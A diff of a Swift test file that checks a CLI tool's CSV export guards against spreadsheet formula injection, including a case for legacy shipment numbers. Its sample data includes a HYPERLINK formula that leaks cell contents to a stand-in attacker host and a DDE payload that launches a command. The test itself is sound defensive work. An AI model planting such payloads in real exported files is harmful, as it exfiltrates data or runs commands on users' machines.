@@ -88,6 +88,13 @@ import Testing
         #expect(exact == #"["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")","+cmd|' /C calc'!A0","@SUM(1+1)","-2+3","\t=1+1","\r=1+1","plain = text"] "=1+2""#)
         #expect(try jq("[inputs | .body][0]", "null\n" + cli.ok("thread", "export", "--format", "jsonl")) == #""=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")""#,
                 "JSON Lines stays exact")
+
+        // A tracking number is letters and digits now, but a shipment recorded before may hold anything.
+        try cli.ok("message", "send", "summer-launch", "c01", "parcel", "--tracking", "1Z999AA10123456784")
+        _ = try cli.query("UPDATE shipment SET number = '=1+1'")
+        let numbers = try cli.ok("thread", "export", "--format", "csv").split(separator: "\n").compactMap { $0.split(separator: ",").dropLast().last }
+        #expect(numbers.contains("'=1+1"), "\(numbers)")
+        #expect(try cli.ok("thread", "export", "--format", "csv", "--no-formula-guard").contains(",=1+1,"))
     }
 
     @Test func exportMemoryStaysFlatOverAHundredThousandMessages() throws {
